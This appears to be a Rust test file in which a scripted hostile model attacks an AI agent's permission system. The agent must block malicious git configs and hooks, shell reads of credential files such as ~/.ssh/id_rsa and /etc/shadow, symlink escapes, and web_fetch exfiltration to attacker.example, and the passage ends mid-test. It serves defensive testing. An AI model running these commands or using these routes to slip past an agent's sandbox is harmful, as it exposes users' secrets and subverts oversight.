//! A hostile model drives the real agent (scripted provider) against a host that
//! denies every confirmation. Each test is one reported attack; it asserts that no code ran,
//! no outside file was listed or read, or that the host was asked instead.

use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};

use agentao::agent::{Agent, TurnOptions};
use agentao::events::transport::{Answer, ConfirmRequest, Confirmation, Reply, Transport};
use agentao::permissions::Mode;
use serde_json::{json, Value};

mod common;

/// A host that denies every confirmation and records what it was asked.
#[derive(Default)]
struct DenyAll {
    asked: Mutex<Vec<(String, Value)>>,
}

impl Transport for DenyAll {
    fn emit(&self, _event: &str) {}
    fn confirm_tool(&self, req: ConfirmRequest, reply: Reply) {
        self.asked.lock().unwrap().push((
            req.tool_name.clone(),
            serde_json::from_str(&req.args_json).unwrap_or(Value::Null),
        ));
        reply.answer(Answer::Confirm(Confirmation::Deny)).unwrap();
    }
    fn on_max_iterations(&self, _count: u32, _pending: &str, reply: Reply) {
        reply
            .answer(Answer::Json(json!({"action": "stop"}).to_string()))
            .unwrap();
    }
}

struct Outcome {
    /// The tool results the model read, in order.
    results: Vec<String>,
    /// The calls the host was asked to confirm.
    asked: Vec<(String, Value)>,
}

fn call(name: &str, args: Value) -> Value {
    json!({"tool_calls": [{"id": "c", "name": name, "arguments": args}]})
}

/// A workspace on a canonical path, with a sibling directory standing for "outside".
struct Site {
    _dir: tempfile::TempDir,
    ws: PathBuf,
    outside: PathBuf,
}

impl Site {
    fn new() -> Site {
        let dir = tempfile::tempdir().unwrap();
        let base = std::fs::canonicalize(dir.path()).unwrap();
        let ws = base.join("ws");
        let outside = base.join("outside");
        std::fs::create_dir(&ws).unwrap();
        std::fs::create_dir(&outside).unwrap();
        std::fs::write(outside.join("secret.txt"), "TOPSECRET\n").unwrap();
        Site {
            _dir: dir,
            ws,
            outside,
        }
    }

    fn marker(&self, name: &str) -> PathBuf {
        self.outside.join(name)
    }

    /// Runs one scripted turn: each call in its own model response, then a final text.
    fn run(&self, mode: Mode, extra: Value, calls: Vec<Value>) -> Outcome {
        let mut responses: Vec<Value> = calls;
        responses.push(json!({"text": "done"}));
        let start_mode = if mode == Mode::Plan {
            "workspace-write"
        } else {
            mode.as_str()
        };
        let mut config = json!({
            "working_directory": self.ws,
            "llm": {"provider": "scripted", "script": {"responses": responses}},
            "permissions": {"mode": start_mode},
        });
        if let Value::Object(extra) = extra {
            for (k, v) in extra {
                if k == "permissions" {
                    for (pk, pv) in v.as_object().unwrap() {
                        config["permissions"][pk] = pv.clone();
                    }
                } else {
                    config[k] = v;
                }
            }
        }
        let host = Arc::new(DenyAll::default());
        let agent = Agent::new(&config.to_string(), Some(host.clone())).unwrap();
        if mode == Mode::Plan {
            agent.set_permission_mode(Mode::Plan).unwrap();
        }
        agent.run_blocking("go", TurnOptions::default()).unwrap();
        let results = common::tool_results(&agent);
        let asked = host.asked.lock().unwrap().clone();
        Outcome { results, asked }
    }
}

fn write(path: &str, content: &str) -> Value {
    call("write_file", json!({"file_path": path, "content": content}))
}

fn shell(command: &str, wd: &str) -> Value {
    call(
        "run_shell_command",
        json!({"command": command, "working_directory": wd}),
    )
}

fn have_git() -> bool {
    std::process::Command::new("git")
        .arg("--version")
        .output()
        .is_ok_and(|o| o.status.success())
}

// ---------------------------------------------------------------------------------------
// Finding 1: code chosen by repository content, run by an auto-allowed read-only command.
// ---------------------------------------------------------------------------------------

/// The bare-repository layout the model writes with auto-allowed `write_file` calls.
fn planted_bare_repo(site: &Site, config_tail: &str) -> Vec<Value> {
    let config = format!("[core]\n\tbare = true\n{config_tail}");
    let _ = site;
    vec![
        write("x/HEAD", "ref: refs/heads/main\n"),
        write("x/config", &config),
        write("x/objects/info/keep", ""),
        write("x/refs/heads/keep", ""),
        write("x/info/attributes", "* diff=tc filter=f\n"),
        write("x/a", "a\n"),
        write("x/b", "b\n"),
    ]
}

#[test]
fn workspace_write_git_diff_no_index_runs_no_repository_program() {
    if !have_git() {
        eprintln!("SKIPPED: git is not installed");
        return;
    }
    let site = Site::new();
    let vectors: Vec<(&str, String)> = vec![
        (
            "diff.external",
            format!(
                "[diff]\n\texternal = \"touch {}; echo\"\n",
                site.marker("ext").display()
            ),
        ),
        (
            "diff driver command",
            format!(
                "[diff \"tc\"]\n\tcommand = \"touch {}; echo\"\n",
                site.marker("cmd").display()
            ),
        ),
        (
            "textconv",
            format!(
                "[diff \"tc\"]\n\ttextconv = \"touch {}; cat\"\n",
                site.marker("textconv").display()
            ),
        ),
        (
            "filter clean",
            format!(
                "[filter \"f\"]\n\tclean = \"touch {}; cat\"\n",
                site.marker("clean").display()
            ),
        ),
        (
            "filter process",
            format!(
                "[filter \"f\"]\n\tprocess = \"touch {}\"\n",
                site.marker("process").display()
            ),
        ),
        (
            "core.pager",
            format!(
                "[core]\n\tpager = \"touch {}; cat\"\n[pager]\n\tdiff = \"touch {}; cat\"\n",
                site.marker("pager").display(),
                site.marker("pager").display()
            ),
        ),
    ];
    for (name, tail) in &vectors {
        let _ = std::fs::remove_dir_all(site.ws.join("x"));
        let mut calls = planted_bare_repo(&site, tail);
        calls.push(shell("git diff --no-index a b", "x"));
        let out = site.run(Mode::WorkspaceWrite, json!({}), calls);
        assert!(out.asked.is_empty(), "{name}: asked {:?}", out.asked);
        let created: Vec<_> = std::fs::read_dir(&site.outside)
            .unwrap()
            .map(|e| e.unwrap().file_name())
            .filter(|n| n != "secret.txt")
            .collect();
        assert!(
            created.is_empty(),
            "{name}: repository-chosen program ran: {created:?}; results {:?}",
            out.results
        );
        // The diff itself still works.
        let last = out.results.last().unwrap();
        assert!(last.contains("+b"), "{name}: {last}");
    }
}

/// An untrusted checkout (a real `.git` with hostile config, attributes and hooks) in plan
/// mode: every read-only git subcommand of the preset runs nothing it names.
#[test]
fn plan_mode_untrusted_checkout_runs_no_repository_program() {
    if !have_git() {
        eprintln!("SKIPPED: git is not installed");
        return;
    }
    let site = Site::new();
    let ws = &site.ws;
    let git = |args: &[&str]| {
        let ok = std::process::Command::new("git")
            .args(["-c", "user.name=t", "-c", "user.email=t@t"])
            .args(args)
            .current_dir(ws)
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .output()
            .unwrap()
            .status
            .success();
        assert!(ok, "git {args:?}");
    };
    git(&["init", "-q", "."]);
    std::fs::write(ws.join("a"), "a\n").unwrap();
    git(&["add", "a"]);
    git(&["commit", "-qm", "init"]);
    let m = |n: &str| site.marker(n).display().to_string();
    let config = format!(
        "[core]\n\tfsmonitor = \"touch {}; false\"\n\thooksPath = hooks\n\tpager = \"touch {}; cat\"\n\
         [filter \"f\"]\n\tclean = \"touch {}; cat\"\n\tsmudge = \"touch {}; cat\"\n\
         [diff \"tc\"]\n\ttextconv = \"touch {}; cat\"\n\tcommand = \"touch {}; echo\"\n\
         [diff]\n\texternal = \"touch {}; echo\"\n\
         [log]\n\tshowSignature = true\n[gpg]\n\tprogram = \"{}\"\n\
         [alias]\n\tstatus = \"!touch {}\"\n\tlog = \"!touch {}\"\n",
        m("fsmonitor"),
        m("pager"),
        m("clean"),
        m("smudge"),
        m("textconv"),
        m("diffcmd"),
        m("external"),
        ws.join("hooks/gpg").display(),
        m("alias"),
        m("alias"),
    );
    let mut f = std::fs::OpenOptions::new()
        .append(true)
        .open(ws.join(".git/config"))
        .unwrap();
    std::io::Write::write_all(&mut f, config.as_bytes()).unwrap();
    std::fs::create_dir(ws.join("hooks")).unwrap();
    for hook in [
        "post-index-change",
        "gpg",
        "fsmonitor-watchman",
        "post-checkout",
    ] {
        let p = ws.join("hooks").join(hook);
        std::fs::write(
            &p,
            format!("#!/bin/sh\ntouch {}\n", m(&format!("hook-{hook}"))),
        )
        .unwrap();
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    std::fs::write(ws.join(".gitattributes"), "a filter=f diff=tc\n").unwrap();
    std::fs::write(ws.join("a"), "a\nb\n").unwrap();
    let commands = [
        "git status",
        "git status --short",
        "git diff",
        "git diff HEAD",
        "git log -p",
        "git log --show-signature",
        "git show",
        "git blame a",
        "git ls-files",
        "git stash list",
        "git shortlog HEAD",
        "git describe --always",
        "git rev-parse HEAD",
        "git config --get core.pager",
        "git ls-tree HEAD",
    ];
    let calls = commands.iter().map(|c| shell(c, ".")).collect();
    let out = site.run(Mode::Plan, json!({}), calls);
    assert!(out.asked.is_empty(), "asked {:?}", out.asked);
    let created: Vec<_> = std::fs::read_dir(&site.outside)
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .filter(|n| n != "secret.txt")
        .collect();
    assert!(
        created.is_empty(),
        "repository-chosen programs ran: {created:?}\nresults: {:#?}",
        out.results
    );
    assert_eq!(out.results.len(), commands.len());
    assert!(out.results[2].contains("+b"), "{}", out.results[2]);
    assert!(
        out.results[7].contains("Not Committed Yet"),
        "{}",
        out.results[7]
    );
}

// ---------------------------------------------------------------------------------------
// Finding 2: glob lists files outside the workspace.
// ---------------------------------------------------------------------------------------

#[test]
fn glob_lists_nothing_outside_the_workspace() {
    let site = Site::new();
    std::fs::write(site.ws.join("inside.txt"), "in\n").unwrap();
    std::os::unix::fs::symlink(&site.outside, site.ws.join("link")).unwrap();
    let depth = site.ws.components().count();
    let up = "../".repeat(depth);
    let secret = site.outside.join("secret.txt").display().to_string();
    let patterns = vec![
        "../outside/*".to_owned(),
        "../outside/secret.txt".to_owned(),
        format!("{up}etc/*"),
        format!("{up}etc/passwd"),
        format!("{}*", &secret[..secret.len() - 10]),
        secret.clone(),
        "/etc/passwd".to_owned(),
        "link/*".to_owned(),
        "link/secret.txt".to_owned(),
        "link/**/*".to_owned(),
        "**/secret.txt".to_owned(),
        "*/secret.txt".to_owned(),
    ];
    for mode in [
        Mode::ReadOnly,
        Mode::WorkspaceWrite,
        Mode::Plan,
        Mode::FullAccess,
    ] {
        let calls = patterns
            .iter()
            .map(|p| call("glob", json!({"pattern": p})))
            .collect();
        let out = site.run(mode, json!({}), calls);
        assert_eq!(out.results.len(), patterns.len());
        for (p, r) in patterns.iter().zip(&out.results) {
            assert!(
                !r.starts_with("Found") && !r.contains("TOPSECRET"),
                "{mode:?} glob {p:?} listed outside files: {r}"
            );
        }
    }
    // Inside still works, and the opt-in restores outside reads.
    let out = site.run(
        Mode::WorkspaceWrite,
        json!({}),
        vec![call("glob", json!({"pattern": "*.txt"}))],
    );
    assert!(out.results[0].contains("inside.txt"), "{}", out.results[0]);
    let out = site.run(
        Mode::WorkspaceWrite,
        json!({"tools": {"allow_reads_outside_workspace": true}}),
        vec![call("glob", json!({"pattern": "../outside/*"}))],
    );
    assert!(out.results[0].contains("secret.txt"), "{}", out.results[0]);
}

// ---------------------------------------------------------------------------------------
// Finding 3: auto-allowed read-only shell commands reading outside the workspace.
// ---------------------------------------------------------------------------------------

/// The 32 commands of the report, spelled against this machine's paths.
fn outside_read_commands(site: &Site) -> Vec<String> {
    let o = site.outside.display().to_string();
    let s = format!("{o}/secret.txt");
    vec![
        "cat ~/.ssh/id_rsa".into(),
        "cat /etc/shadow".into(),
        "cat /etc/passwd".into(),
        format!("cat {s}"),
        "cat ../outside/secret.txt".into(),
        "cat link/secret.txt".into(),
        "head -n 5 /etc/passwd".into(),
        "tail /etc/passwd".into(),
        format!("tail -c 100 {s}"),
        "wc -l /etc/passwd".into(),
        "grep -r password /home".into(),
        "grep -r TOPSECRET ..".into(),
        format!("grep -f {s} inside.txt"),
        format!("grep --file={s} inside.txt"),
        format!("grep -f{s} inside.txt"),
        "grep root /etc/passwd".into(),
        "diff /etc/passwd /etc/group".into(),
        format!("diff {s} inside.txt"),
        format!("diff --from-file={s} inside.txt"),
        "ls ~".into(),
        "ls -la /root".into(),
        "ls ../outside".into(),
        "ls link".into(),
        "du -a /etc".into(),
        "du ~/.ssh".into(),
        format!("git blame --contents {s} inside.txt"),
        format!("git diff --no-index {s} inside.txt"),
        "git diff --no-index /etc/passwd inside.txt".into(),
        format!("git log -- {o}"),
        format!("git ls-tree HEAD {o}"),
        format!("head --bytes=100 {s}"),
        "cat ~root/.bashrc".into(),
    ]
}

#[test]
fn workspace_write_shell_reads_outside_are_asked_not_run() {
    let site = Site::new();
    std::fs::write(site.ws.join("inside.txt"), "in\n").unwrap();
    std::os::unix::fs::symlink(&site.outside, site.ws.join("link")).unwrap();
    let commands = outside_read_commands(&site);
    assert_eq!(commands.len(), 32);
    for mode in [Mode::WorkspaceWrite, Mode::Plan] {
        let calls = commands.iter().map(|c| shell(c, ".")).collect();
        let out = site.run(mode, json!({}), calls);
        for (c, r) in commands.iter().zip(&out.results) {
            assert!(
                !r.contains("TOPSECRET"),
                "{mode:?} {c:?} read the secret: {r}"
            );
            assert!(
                !r.starts_with("STDOUT") && !r.starts_with("STDERR") && !r.starts_with("Command"),
                "{mode:?} {c:?} ran without the host: {r}"
            );
        }
        let asked: Vec<String> = out
            .asked
            .iter()
            .map(|(_, a)| a["command"].as_str().unwrap_or("").to_owned())
            .collect();
        assert_eq!(asked, commands, "{mode:?}: every outside read is asked");
    }
    // Inside reads stay auto-allowed.
    let inside = [
        "cat inside.txt",
        "grep -r in .",
        "ls",
        "wc -l inside.txt",
        "ls sub/../inside.txt",
    ];
    let out = site.run(
        Mode::WorkspaceWrite,
        json!({}),
        inside.iter().map(|c| shell(c, ".")).collect(),
    );
    assert!(out.asked.is_empty(), "{:?}", out.asked);
    assert!(out.results[0].contains("in"), "{}", out.results[0]);
    // With outside reads allowed, the preset's behaviour is the reference's.
    let out = site.run(
        Mode::WorkspaceWrite,
        json!({"tools": {"allow_reads_outside_workspace": true}}),
        vec![shell(
            &format!("cat {}/secret.txt", site.outside.display()),
            ".",
        )],
    );
    assert!(out.asked.is_empty());
    assert!(out.results[0].contains("TOPSECRET"), "{}", out.results[0]);
}

// ---------------------------------------------------------------------------------------
// Audit of 2026-12-05: where a long result is saved is the workspace's, not the repository's.
// ---------------------------------------------------------------------------------------

/// What `dir` holds, by name.
fn names(dir: &Path) -> Vec<String> {
    let mut v: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    v.sort();
    v
}

#[test]
fn a_long_result_is_never_saved_or_pruned_through_a_repository_symlink() {
    // The checkout links the spill directory (or `.agentao` itself) outside. A read-only
    // model reads a long file: the library must not write there, nor prune what it finds.
    for planted in [".agentao/tool-outputs", ".agentao"] {
        let site = Site::new();
        let victim = site.outside.join("victim");
        std::fs::create_dir(&victim).unwrap();
        let notes = victim.join("notes.txt");
        std::fs::write(&notes, "the host's own notes\n").unwrap();
        let old = std::time::SystemTime::now() - std::time::Duration::from_secs(10 * 24 * 3600);
        std::fs::File::options()
            .write(true)
            .open(&notes)
            .unwrap()
            .set_modified(old)
            .unwrap();
        if planted == ".agentao" {
            std::os::unix::fs::symlink(&victim, site.ws.join(".agentao")).unwrap();
        } else {
            std::fs::create_dir(site.ws.join(".agentao")).unwrap();
            std::os::unix::fs::symlink(&victim, site.ws.join(planted)).unwrap();
        }
        std::fs::write(site.ws.join("big.txt"), "line of text\n".repeat(5_000)).unwrap();
        let out = site.run(
            Mode::ReadOnly,
            json!({}),
            vec![call("read_file", json!({"file_path": "big.txt"}))],
        );
        assert_eq!(
            names(&victim),
            ["notes.txt"],
            "{planted}: the library wrote or pruned outside the workspace"
        );
        assert!(
            out.results[0].starts_with("[Output truncated: "),
            "{planted}: {}",
            &out.results[0][..200]
        );
        assert!(
            !out.results[0][..300].contains("Full output saved to"),
            "{planted}: {}",
            &out.results[0][..300]
        );
    }
}

#[test]
fn a_host_chosen_spill_directory_outside_the_workspace_is_used_and_pruned_of_its_own_files_only() {
    let site = Site::new();
    let spill = site.outside.join("spill");
    std::fs::create_dir(&spill).unwrap();
    let old = std::time::SystemTime::now() - std::time::Duration::from_secs(10 * 24 * 3600);
    // A file of the host's, a link to a file of the host's, and an old spill of ours.
    std::fs::write(spill.join("notes.txt"), "mine").unwrap();
    std::fs::write(site.outside.join("kept.txt"), "kept").unwrap();
    std::os::unix::fs::symlink(site.outside.join("kept.txt"), spill.join("link.txt")).unwrap();
    std::fs::write(spill.join("read_file_1700000000_abc123.txt"), "old spill").unwrap();
    for name in ["notes.txt", "read_file_1700000000_abc123.txt"] {
        std::fs::File::options()
            .write(true)
            .open(spill.join(name))
            .unwrap()
            .set_modified(old)
            .unwrap();
    }
    std::fs::write(site.ws.join("big.txt"), "line of text\n".repeat(5_000)).unwrap();
    let out = site.run(
        Mode::ReadOnly,
        json!({"tools": {"settings": {"tool_outputs_dir": spill}}}),
        vec![call("read_file", json!({"file_path": "big.txt"}))],
    );
    assert!(
        out.results[0][..300].contains(&format!("Full output saved to: {}", spill.display())),
        "{}",
        &out.results[0][..300]
    );
    let left = names(&spill);
    assert!(left.contains(&"notes.txt".to_owned()), "{left:?}");
    assert!(left.contains(&"link.txt".to_owned()), "{left:?}");
    assert!(
        !left.contains(&"read_file_1700000000_abc123.txt".to_owned()),
        "our old spill is pruned: {left:?}"
    );
    assert_eq!(left.len(), 3, "{left:?}");
    assert_eq!(
        std::fs::read_to_string(site.outside.join("kept.txt")).unwrap(),
        "kept"
    );
}

#[test]
fn protected_and_credential_paths_are_asked_whatever_link_reaches_them() {
    // The checkout links `meta -> .git` and `settings.txt -> .env`: writing through the links
    // is writing `.git/hooks` (code the user's next git command runs) and `.env`.
    let site = Site::new();
    std::fs::create_dir_all(site.ws.join(".git/hooks")).unwrap();
    std::fs::write(site.ws.join(".git/config"), "[core]\n").unwrap();
    std::fs::write(site.ws.join(".env"), "TOKEN=kept\n").unwrap();
    std::os::unix::fs::symlink(".git", site.ws.join("meta")).unwrap();
    std::os::unix::fs::symlink(".env", site.ws.join("settings.txt")).unwrap();
    std::fs::write(site.ws.join("cert.txt"), "").unwrap();
    std::os::unix::fs::symlink("server.pem", site.ws.join("cert-link")).unwrap();
    std::fs::write(site.ws.join("server.pem"), "KEY\n").unwrap();
    let writes = vec![
        write("meta/hooks/pre-commit", "#!/bin/sh\ntouch pwned\n"),
        call(
            "replace",
            json!({"file_path": "meta/config", "old_text": "[core]", "new_text": "[core]\n\tfsmonitor = touch pwned"}),
        ),
        write("settings.txt", "TOKEN=stolen\n"),
        write("cert-link", "NOT A KEY\n"),
    ];
    let out = site.run(Mode::WorkspaceWrite, json!({}), writes);
    let asked: Vec<String> = out
        .asked
        .iter()
        .map(|(tool, a)| format!("{tool} {}", a["file_path"].as_str().unwrap_or("")))
        .collect();
    assert_eq!(
        asked,
        [
            "write_file meta/hooks/pre-commit",
            "replace meta/config",
            "write_file settings.txt",
            "write_file cert-link",
        ],
        "results: {:?}",
        out.results
    );
    assert!(!site.ws.join(".git/hooks/pre-commit").exists());
    assert_eq!(
        std::fs::read_to_string(site.ws.join(".git/config")).unwrap(),
        "[core]\n"
    );
    assert_eq!(
        std::fs::read_to_string(site.ws.join(".env")).unwrap(),
        "TOKEN=kept\n"
    );
    assert_eq!(
        std::fs::read_to_string(site.ws.join("server.pem")).unwrap(),
        "KEY\n"
    );
    // Plain files are still written without a prompt.
    let out = site.run(
        Mode::WorkspaceWrite,
        json!({}),
        vec![write("cert.txt", "ok")],
    );
    assert!(out.asked.is_empty(), "{:?}", out.asked);
    assert_eq!(
        std::fs::read_to_string(site.ws.join("cert.txt")).unwrap(),
        "ok"
    );
}

#[test]
fn listings_say_nothing_about_what_an_outside_link_leads_to() {
    // `[FILE] probe (3243 bytes)` for a link to ~/.ssh/id_rsa, `[DIR]` for a link to a
    // directory, and glob listing only links whose target exists: each told the model about a
    // path outside the workspace it may not read.
    let site = Site::new();
    std::os::unix::fs::symlink(site.outside.join("secret.txt"), site.ws.join("probe_file"))
        .unwrap();
    std::os::unix::fs::symlink(&site.outside, site.ws.join("probe_dir")).unwrap();
    std::os::unix::fs::symlink(site.outside.join("nope"), site.ws.join("probe_missing")).unwrap();
    std::fs::write(site.ws.join("inside.txt"), "in").unwrap();
    std::os::unix::fs::symlink("inside.txt", site.ws.join("inside_link")).unwrap();
    let out = site.run(
        Mode::ReadOnly,
        json!({}),
        vec![
            call("list_directory", json!({})),
            call("list_directory", json!({"recursive": true})),
            call("glob", json!({"pattern": "probe_*"})),
            call("glob", json!({"pattern": "*"})),
        ],
    );
    for listing in &out.results[..2] {
        for name in ["probe_file", "probe_dir", "probe_missing"] {
            let line = listing
                .lines()
                .find(|l| l.contains(name))
                .unwrap_or_else(|| panic!("{name} is not listed: {listing}"));
            assert_eq!(
                line,
                format!("[LINK] {name} (leads outside the workspace)"),
                "{listing}"
            );
        }
        assert!(
            listing.contains("[FILE] inside_link (2 bytes)"),
            "{listing}"
        );
    }
    assert_eq!(out.results[2], "No files found matching pattern: probe_*");
    assert!(
        !out.results[3].lines().any(|l| l.starts_with("probe")),
        "{}",
        out.results[3]
    );
    assert!(out.results[3].contains("inside_link"), "{}", out.results[3]);
}

#[test]
fn a_read_only_command_in_the_background_is_asked() {
    // `tail -f` is in the read-only set, but in the background it is a detached process no one
    // tracks, which outlives the turn, the agent and the host: the set's promise ("reads inside
    // the workspace, then ends") does not cover it.
    let site = Site::new();
    std::fs::write(site.ws.join("x.log"), "line\n").unwrap();
    let background = call(
        "run_shell_command",
        json!({"command": "tail -f x.log", "is_background": true}),
    );
    let out = site.run(Mode::WorkspaceWrite, json!({}), vec![background]);
    assert_eq!(out.asked.len(), 1, "{:?}", out.results);
    assert!(
        !out.results[0].contains("Background process started"),
        "{}",
        out.results[0]
    );
    // In the foreground it still runs unasked.
    let out = site.run(
        Mode::WorkspaceWrite,
        json!({}),
        vec![shell("tail -n 1 x.log", ".")],
    );
    assert!(out.asked.is_empty(), "{:?}", out.asked);
    assert!(out.results[0].contains("line"), "{}", out.results[0]);
}

// ---------------------------------------------------------------------------------------
// Finding 5: exfiltration through web_fetch, and the host's domain allow-list.
// ---------------------------------------------------------------------------------------

#[test]
fn web_fetch_domain_allow_list_is_enforced_and_visible() {
    let site = Site::new();
    let urls = [
        "https://r.jina.ai/https://attacker.example/?k=TOPSECRET",
        "https://api.github.com/?k=TOPSECRET",
        "https://attacker.example/?k=TOPSECRET",
    ];
    let calls: Vec<Value> = urls
        .iter()
        .map(|u| call("web_fetch", json!({"url": u})))
        .collect();
    let out = site.run(
        Mode::WorkspaceWrite,
        json!({"permissions": {"web_fetch_domains": ["docs.rs", ".python.org"]}}),
        calls,
    );
    let asked: Vec<&str> = out
        .asked
        .iter()
        .map(|(_, a)| a["url"].as_str().unwrap())
        .collect();
    assert_eq!(
        asked, urls,
        "off-list fetches are asked, never auto-allowed"
    );
    for r in &out.results {
        assert!(r.starts_with("Tool execution declined"), "{r}");
    }
    // The snapshot shows the list as the first rules.
    let config = json!({
        "working_directory": site.ws,
        "llm": {"provider": "scripted", "script": {"responses": [{"text": "x"}]}},
        "permissions": {"mode": "workspace-write", "web_fetch_domains": ["docs.rs"]},
    });
    let agent = Agent::new(&config.to_string(), None).unwrap();
    let snap = serde_json::to_value(agent.active_permissions()).unwrap();
    let rules = snap["rules"].as_array().unwrap();
    assert_eq!(
        rules[0],
        json!({"tool": "web_fetch", "domain": {"allowlist": ["docs.rs"]}, "action": "allow"})
    );
    assert_eq!(rules[1], json!({"tool": "web_fetch", "action": "ask"}));
    assert!(snap["loaded_sources"]
        .as_array()
        .unwrap()
        .contains(&json!("injected:web_fetch_domains")));
    // A bad list is a construction error naming the field.
    let bad = json!({
        "working_directory": site.ws,
        "llm": {"provider": "scripted", "script": {"responses": [{"text": "x"}]}},
        "permissions": {"web_fetch_domains": ["ok.com", 5]},
    });
    let err = Agent::new(&bad.to_string(), None)
        .err()
        .unwrap()
        .to_string();
    assert!(err.contains("permissions.web_fetch_domains"), "{err}");
}

/// A loopback HTTP server answering every request with `reply(path)`; it counts connections and
/// stops by itself after 20 s.
fn loopback_server(
    ip: &str,
    reply: impl Fn(&str) -> String + Send + 'static,
) -> (u16, Arc<std::sync::atomic::AtomicUsize>) {
    use std::io::{BufRead, BufReader, Write};
    use std::time::{Duration, Instant};
    let listener = std::net::TcpListener::bind((ip, 0)).unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let hits = Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counter = hits.clone();
    std::thread::spawn(move || {
        let deadline = Instant::now() + Duration::from_secs(20);
        while Instant::now() < deadline {
            let Ok((stream, _)) = listener.accept() else {
                std::thread::sleep(Duration::from_millis(10));
                continue;
            };
            counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            let _ = stream.set_nonblocking(false);
            let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
            let mut reader = BufReader::new(stream);
            let mut line = String::new();
            let _ = reader.read_line(&mut line);
            let path = line.split_whitespace().nth(1).unwrap_or("/").to_owned();
            while line.trim() != "" || line.is_empty() {
                line.clear();
                if reader.read_line(&mut line).unwrap_or(0) == 0 {
                    break;
                }
            }
            let _ = reader.get_mut().write_all(reply(&path).as_bytes());
        }
    });
    (port, hits)
}

/// Audit of 2026-12-05: a listed host redirecting to an unlisted one took web_fetch past
/// `permissions.web_fetch_domains`, since the permission engine sees only the requested URL.
#[test]
fn web_fetch_redirect_does_not_leave_the_allow_list() {
    let site = Site::new();
    let (secret_port, secret_hits) = loopback_server("127.0.0.2", |_| {
        "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 6\r\nConnection: close\r\n\r\nSECRET"
            .to_owned()
    });
    let secret = format!("http://127.0.0.2:{secret_port}/secret");
    let location = secret.clone();
    let (port, _) = loopback_server("127.0.0.1", move |_| {
        format!("HTTP/1.1 302 Found\r\nLocation: {location}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
    });
    let redirect = format!("http://127.0.0.1:{port}/redir");
    let out = site.run(
        Mode::WorkspaceWrite,
        json!({
            "permissions": {"web_fetch_domains": ["127.0.0.1"]},
            "tools": {"settings": {"web_fetch": {"allow_private": ["127.0.0.0/8"], "timeout_s": 5}}},
        }),
        vec![
            call("web_fetch", json!({"url": redirect})),
            call("web_fetch", json!({"url": secret})),
        ],
    );
    assert_eq!(
        out.results[0],
        format!(
            "URL: {redirect}\nStatus: 302\n\nThe server redirected to {secret} (another origin); it \
             was not followed. Call web_fetch with that URL to fetch it."
        )
    );
    // The follow-up call is judged like any other: asked, and declined by the host.
    let asked: Vec<&str> = out
        .asked
        .iter()
        .map(|(_, a)| a["url"].as_str().unwrap())
        .collect();
    assert_eq!(asked, [secret.as_str()]);
    assert!(
        out.results[1].starts_with("Tool execution declined"),
        "{}",
        out.results[1]
    );
    assert_eq!(secret_hits.load(std::sync::atomic::Ordering::SeqCst), 0);
}

#[allow(dead_code)]
fn exists(p: &Path) -> bool {
    p.exists()
}

// ---------------------------------------------------------------------------------------
// Audit (shell reads): the read-only shell set reaching outside through git's own file
// lookups and through symlinks the operand check did not see.
// ---------------------------------------------------------------------------------------

/// `git` run for the test's setup, with no user or system config.
fn setup_git(dir: &Path, args: &[&str]) {
    let out = std::process::Command::new("git")
        .args([
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@t",
            "-c",
            "init.defaultBranch=main",
        ])
        .args(args)
        .current_dir(dir)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .output()
        .unwrap();
    assert!(out.status.success(), "git {args:?}: {out:?}");
}

/// The results and the asked commands, with every result free of `needle`.
fn assert_nothing_leaked(out: &Outcome, needle: &str, label: &str) {
    for r in &out.results {
        assert!(!r.contains(needle), "{label}: read outside: {r}");
    }
}

fn asked_commands(out: &Outcome) -> Vec<String> {
    out.asked
        .iter()
        .map(|(_, a)| a["command"].as_str().unwrap_or("").to_owned())
        .collect()
}

/// Audit finding 1: `git config` follows `include.path` / `includeIf` to outside files.
#[test]
fn audit_git_config_includes_read_nothing_outside() {
    if !have_git() {
        eprintln!("SKIPPED: git is not installed");
        return;
    }
    let site = Site::new();
    let pypirc = site.outside.join(".pypirc");
    std::fs::write(&pypirc, "[pypi]\n\tpassword = pypi-OUTSIDE-PASSWORD\n").unwrap();
    let p = pypirc.display();
    // The model writes the include file itself, then asks git to follow it.
    let inc = format!("[include]\n\tpath = {p}\n[includeIf \"gitdir:/\"]\n\tpath = {p}\n");
    let commands = [
        "git config --get-regexp --includes --file inc.cfg .",
        "git config --get-regexp --includes -finc.cfg .",
        "git config --get-regexp --inc --file=inc.cfg .",
        "git config --get-all --includes --file inc.cfg pypi.password",
    ];
    let mut calls = vec![write("inc.cfg", &inc)];
    calls.extend(commands.iter().map(|c| shell(c, ".")));
    let out = site.run(Mode::WorkspaceWrite, json!({}), calls);
    assert_nothing_leaked(&out, "OUTSIDE-PASSWORD", "written include");
    assert_eq!(asked_commands(&out), commands, "--includes is asked");
    // Without `--includes` the same file is read with includes off, without asking.
    let out = site.run(
        Mode::WorkspaceWrite,
        json!({}),
        vec![shell("git config --get-regexp --file inc.cfg .", ".")],
    );
    assert!(out.asked.is_empty(), "{:?}", out.asked);
    assert_nothing_leaked(&out, "OUTSIDE-PASSWORD", "--file without --includes");
    assert!(
        out.results[0].contains("include.path"),
        "{}",
        out.results[0]
    );
    // No write at all: a hostile checkout's own config includes the outside file.
    setup_git(&site.ws, &["init", "-q", "."]);
    let mut f = std::fs::OpenOptions::new()
        .append(true)
        .open(site.ws.join(".git/config"))
        .unwrap();
    std::io::Write::write_all(&mut f, inc.as_bytes()).unwrap();
    let checkout = [
        "git config --get-regexp pypi",
        "git config --get pypi.password",
        "git config --get-all pypi.password",
        "git config --get-regexp .",
    ];
    for mode in [Mode::WorkspaceWrite, Mode::Plan] {
        let out = site.run(
            mode,
            json!({}),
